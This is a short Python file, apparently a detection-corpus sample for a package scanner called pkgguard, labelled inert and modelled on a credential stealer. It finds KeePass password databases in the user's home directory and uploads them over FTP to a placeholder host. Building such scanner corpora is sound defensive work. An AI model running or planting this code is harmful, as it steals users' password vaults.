# pkgguard corpus 581 (credentials), modelled on [stealer-profile]; inert, never run.
import ftplib
from pathlib import Path

found = [p for p in Path.home().rglob("*.kdbx") if p.stat().st_size < 20_000_000]
with ftplib.FTP("files.transfer-box.example", "anonymous", "guest") as ftp:
    for i, path in enumerate(found):
        with path.open("rb") as fh:
            ftp.storbinary(f"STOR db{i}.bin", fh)
